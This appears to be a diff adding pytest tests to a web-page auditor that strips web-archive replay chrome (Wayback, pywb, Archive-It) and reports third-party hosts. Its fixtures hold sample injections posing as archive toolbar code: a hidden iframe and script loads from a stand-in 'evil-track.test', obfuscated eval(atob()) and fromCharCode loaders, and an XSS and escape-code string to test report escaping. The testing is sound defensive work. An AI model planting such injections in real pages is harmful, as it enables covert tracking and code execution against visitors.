@@ -13,14 +13,18 @@ from __future__ import annotations
 import io
 from pathlib import Path
 
+import lxml.html
 import pytest
 
 from auditor.catalogue import Catalogue
-from auditor.model import PageReport
+from auditor.model import PageReport, Replay
 from auditor.pipeline import audit_document, audit_records
 from auditor.readers import Document
 from auditor.readers.warc import read_warc
 from auditor.replay import unwrapped
+from auditor.report import RunSummary
+from auditor.report.html_report import HtmlReporter
+from auditor.report.markdown import MarkdownReporter
 from auditor.report.terminal import render_pages
 from auditor.rules import Engine
 from tests.archive_fixtures import response, warc_bytes
@@ -233,3 +237,172 @@ def test_a_page_url_given_stands_over_the_marks(engine: Engine, catalogue: Catal
     page = _audit("news-wayback.html", url, engine, catalogue)
     assert page.url == url and page.replay is not None
     assert (page.replay.original, page.replay.replay_url) == (ORIGINAL_URL, None)
+
+
+_MARK = ('__wm.wombat("https://example.com/","20230105123456","https://web.archive.org/",'
+         '"web","https://web-static.archive.org/_static/","1672921496");')
+
+
+@pytest.mark.parametrize("text", [
+    # a blog post on stripping Wayback's chrome, quoting its code in the text
+    f'<html><body><article><pre><code>{_MARK}</code></pre><p>its links look like '
+    '<a href="https://web.archive.org/web/20230105123456/https://example.com/a">this</a>'
+    '</p><img src="https://web.archive.org/web/20230105123456im_/https://example.com/l.png">'
+    '</article></body></html>',
+    # pywb's documentation quoting its head insert
+    '<html><body><pre>\nwbinfo.url = "https://example.com/";\nwbinfo.timestamp = '
+    '"20230105123456";\nwbinfo.prefix = decodeURI("http://localhost:8080/my-coll/");\n</pre>'
+    '<img src="http://localhost:8080/my-coll/20230105123456im_/https://example.com/l.png">'
+    '</body></html>',
+    # a userscript that strips the marks, holding one in a string
+    f"<html><head><script>const sample = '{_MARK}';</script></head><body>"
+    '<img src="https://web.archive.org/web/20230105123456im_/https://example.com/l.png">'
+    '</body></html>',
+    # the trailer comment, quoted by a script
+    '<html><body><script>var t = "<!-- FILE ARCHIVED ON 08:15:30 Mar 12, 2024 AND RETRIEVED '
+    'FROM THE INTERNET ARCHIVE";</script><img src="https://web.archive.org/web/'
+    '20230105123456im_/https://example.com/l.png"></body></html>',
+])
+@pytest.mark.parametrize("url", ["https://blog.test/post", None])
+def test_a_page_quoting_a_replays_code_is_no_replay(text: str, url: str | None) -> None:
+    doc = Document(input="t", kind="html", text=text, url=url)
+    assert unwrapped(doc) == (doc, None)
+
+
+_WOMBAT_OF_SITE = ('<script>__wm.wombat("https://www.harbour-gazette.test/","20230105123456",'
+                   '"https://web.archive.org/","web","x","1");</script>')
+
+
+@pytest.mark.parametrize("injected", [
+    # an injection any page can wrap in the toolbar's comments
+    '<!-- BEGIN WAYBACK TOOLBAR INSERT -->\n<iframe src="http://evil-track.test/in.cgi?2" '
+    'width="1" height="1" style="visibility:hidden"></iframe>\n'
+    '<!-- END WAYBACK TOOLBAR INSERT -->',
+    # or start with the trailer's call
+    "<script>__wm.bt(1);var s=document.createElement('script');s.src="
+    "'https:\\/\\/evil-track.test\\/p.js';document.head.appendChild(s);</script>",
+])
+def test_chrome_that_loads_another_sites_code_is_the_pages(
+    injected: str, engine: Engine, catalogue: Catalogue
+) -> None:
+    # what looks like the archive's chrome but loads what is not the archive's stays
+    text = (f"<!DOCTYPE html>\n<html><head>{_WOMBAT_OF_SITE}</head><body>\n{injected}\n"
+            "<article><p>The council voted.</p></article></body></html>")
+    page = audit_document(Document("t", "html", text, "https://www.harbour-gazette.test/"),
+                          engine, catalogue)
+    assert page.replay is not None
+    assert [h.host for h in page.third_party_hosts] == ["evil-track.test"]
+
+
+def test_the_archives_chrome_keeps_the_saved_files_xpaths(
+    original: PageReport, engine: Engine, catalogue: Catalogue
+) -> None:
+    # the chrome's elements are left empty, not dropped: the page's own after it keep the
+    # indexes they have in the saved file
+    text = (HERE / "news-wayback.html").read_text(encoding="utf-8")
+    saved = lxml.html.fromstring(text).getroottree()
+    copy = _audit("news-wayback.html", WAYBACK_URL, engine, catalogue)
+    for r in copy.resources:
+        [element] = saved.xpath(r.xpath)
+        written = " ".join(str(v) for v in element.attrib.values()) + (element.text or "")
+        assert r.url.split("/")[2] in written.replace("\\/", "/"), (r.url, r.xpath)
+
+
+def test_a_head_include_in_a_page_without_head_keeps_its_html_tag() -> None:
+    text = ('<!DOCTYPE html>\n<html lang="en"><script src="/_static/js/bundle-playback.js">'
+            f'</script>\n{_WOMBAT_OF_SITE}\n<!-- End Wayback Rewrite JS Include -->\n'
+            '<title>Shop</title><body><p>Shop</p></body></html>')
+    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
+    assert replay is not None and doc.text.startswith('<!DOCTYPE html>\n<html lang="en">')
+    assert "bundle-playback" not in doc.text and "__wm" not in doc.text
+
+
+def test_every_report_says_it_read_an_archives_copy_and_escapes_it() -> None:
+    served = ('https://web.archive.org/web/2023/https://x.test/"><script>alert(1)</script>'
+              '|`*[a](b)\x1b[31m')
+    page = PageReport(input="t", url="https://x.test/", kind="html", first_party="x.test",
+                      title=None, replay=Replay("Wayback Machine", "https://x.test/",
+                                                "2023-01-05", served))
+    done = RunSummary(1, 0, 0, 0, False, True)
+    html_out, md_out = io.StringIO(), io.StringIO()
+    for reporter in (HtmlReporter(html_out, "test"), MarkdownReporter(md_out, "test")):
+        reporter.start(())
+        reporter.handle(page)
+        reporter.finished(done)
+    assert "<dt>archived</dt><dd>Wayback Machine capture of 2023-01-05" in html_out.getvalue()
+    assert "<script>alert" not in html_out.getvalue()
+    assert "archived\\: Wayback Machine capture of 2023-01-05" in md_out.getvalue()
+    assert "<script>alert" not in md_out.getvalue() and "\x1b" not in md_out.getvalue()
+    assert "\x1b" not in render_pages([page], width=200)
+
+
+def test_pywbs_worker_modifier_is_unwrapped_too() -> None:
+    # pywb's modifiers are two letters but its web worker's, `wkr_`
+    text = ('<html><head><script>\n  wbinfo.url = "https://a.test/";\n  wbinfo.timestamp = '
+            '"20240312081530";\n  wbinfo.prefix = decodeURI("http://localhost:8080/coll/");\n'
+            '</script></head><body><script>new Worker("/coll/20240312081530wkr_/https://v.test/'
+            'w.js");</script></body></html>')
+    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
+    assert replay is not None and 'new Worker("https://v.test/w.js")' in doc.text
+
+
+def test_the_toolbar_naming_other_sites_without_loading_them_is_still_chrome(
+    original: PageReport, engine: Engine, catalogue: Catalogue
+) -> None:
+    # a capture reached through a redirect: the toolbar's search box holds the URL asked
+    # for, another host than the page's; its share links lead to other sites
+    text = (HERE / "news-wayback.html").read_text(encoding="utf-8").replace(
+        'id="wmtbURL" value="https://www.harbour-gazette.test/local/ferry-timetable"',
+        'id="wmtbURL" value="http://harbour-gazette.test/ferry"').replace(
+        '<div id="wm-graph-anchor">', '<a title="https://www.facebook.com/" href="https://'
+        'www.facebook.com/sharer/sharer.php?u=https://web.archive.org/">share</a>'
+        '<div id="wm-graph-anchor">')
+    assert "http://harbour-gazette.test/ferry" in text and "sharer.php" in text
+    copy = audit_document(Document("t", "html", text, WAYBACK_URL), engine, catalogue)
+    assert _what_it_names(copy) == _what_it_names(original)
+
+
+def test_archive_its_pywb_replay_is_named_archive_it() -> None:
+    text = ('<html><head><script>\n  wbinfo.url = "https://a.test/";\n  wbinfo.timestamp = '
+            '"20240312081530";\n  wbinfo.prefix = decodeURI("https://wayback.archive-it.org/'
+            '1234/");\n</script></head><body><img src="https://wayback.archive-it.org/1234/'
+            '20240312081530im_/https://v.test/p.gif"></body></html>')
+    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
+    assert replay is not None and replay.archive == "Archive-It"
+    assert '<img src="https://v.test/p.gif">' in doc.text
+
+
+def test_archive_todays_header_quoted_by_a_script_is_no_snapshot() -> None:
+    text = ("<html><body><script>const box = '<input id=\"SHARE_LONGLINK\" value=\"https://"
+            "archive.ph/2024.03.12-081530/https://a.test/\">';</script><p>text</p></body></html>")
+    doc = Document(input="t", kind="html", text=text, url="https://tools.test/archive-helper")
+    assert unwrapped(doc) == (doc, None)
+
+
+@pytest.mark.parametrize("script", [
+    "__wm.bt(1);eval(atob('dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgnc2NyaXB0Jyk='));",
+    "__wm.bt(1);var s=document.createElement('script');s.src=`https://evil-track.test/p.js`;",
+    "__wm.bt(1);document.write(String.fromCharCode(60,115,99,114,105,112,116));",
+])
+def test_chrome_running_code_it_builds_is_the_pages(script: str) -> None:
+    # code built at run time hides what it loads: no archive's chrome writes it
+    text = (f"<html><head>{_WOMBAT_OF_SITE}</head><body><p>story</p></body></html>\n"
+            f"<script>{script}</script>")
+    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
+    assert replay is not None and script in doc.text
+
+
+@pytest.mark.parametrize("url", [
+    # a host that only contains the archive's name
+    "https://web.archive.org.mirror.test/web/20230105123456/https://example.com/",
+    "https://notweb.archive.org.test/web/20230105123456/https://example.com/",
+    # the archive's own pages that are no replay: an item page, the calendar, a search
+    "https://archive.org/details/harbour-gazette-1998",
+    "https://web.archive.org/web/2023*/https://example.com/*",
+    "https://web.archive.org/web/*/example.com",
+])
+def test_a_page_at_an_archive_like_url_with_no_marks_is_no_replay(url: str) -> None:
+    text = ('<html><body><p>Captures of example.com</p><a href="https://web.archive.org/web/'
+            '20230105123456/https://example.com/">5 January 2023</a></body></html>')
+    doc = Document(input="t", kind="html", text=text, url=url)
+    assert unwrapped(doc) == (doc, None)
